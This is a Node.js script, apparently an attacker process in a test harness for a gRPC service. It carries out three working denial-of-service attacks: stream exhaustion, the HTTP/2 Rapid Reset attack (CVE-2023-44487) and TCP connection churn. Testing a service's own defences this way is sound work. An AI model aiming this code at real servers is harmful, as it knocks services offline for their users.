/* global setTimeout, setInterval, setImmediate */
// One attacker: opens connections from its own loopback address and does what its first argument says until it is ended.
import { connect } from 'node:http2';
import { connect as connectTcp } from 'node:net';

const [what, address, localAddress, count] = process.argv.slice(2);
const [host, port] = address.split(':');
const headers = (path) => ({
  ':method': 'POST',
  ':path': path,
  ':authority': address,
  'content-type': 'application/grpc',
  te: 'trailers',
});
const quiet = (emitter) => emitter.on('error', () => undefined);
const session = () => {
  const made = quiet(
    connect(`http://${address}`, { createConnection: () => quiet(connectTcp({ host, port, localAddress })) }),
  );
  return made;
};

const attacks = {
  /** As many streams as the server lets it have, open and silent. */
  streams() {
    let open = 0;
    for (let i = 0; i < Number(count); i++) {
      const made = session();
      for (let j = 0; j < 100; j++) {
        const stream = quiet(made.request(headers('/sextant.v1.OutcomeService/ReportStream')));
        stream.once('ready', () => {
          open += 1;
          if (open % 100 === 0) process.stdout.write(`open ${open}\n`);
        });
      }
    }
  },
  /** CVE-2023-44487: streams that are reset as soon as they are asked for, over a new connection whenever one ends. */
  resets() {
    let resets = 0;
    const attack = () => {
      const made = session();
      made.once('close', () => setTimeout(attack, 5));
      const burst = () => {
        if (made.closed || made.destroyed) return;
        for (let i = 0; i < 100; i++) {
          const stream = quiet(made.request(headers('/sextant.v1.SelectionService/Select')));
          stream.close(8);
          resets += 1;
        }
        setImmediate(burst);
      };
      made.once('connect', burst);
    };
    for (let i = 0; i < Number(count); i++) attack();
    setInterval(() => process.stdout.write(`resets ${resets}\n`), 500);
  },
  /** Connections that come and go, most of them without a word. */
  churn() {
    let opened = 0;
    const attack = () => {
      const socket = quiet(connectTcp({ host, port, localAddress }));
      opened += 1;
      socket.once('connect', () => {
        if (opened % 3 === 0) socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
        setTimeout(() => socket.destroy(), 20);
      });
      socket.once('close', () => setTimeout(attack, 5));
    };
    for (let i = 0; i < Number(count); i++) attack();
    setInterval(() => process.stdout.write(`opened ${opened}\n`), 500);
  },
};

attacks[what]();
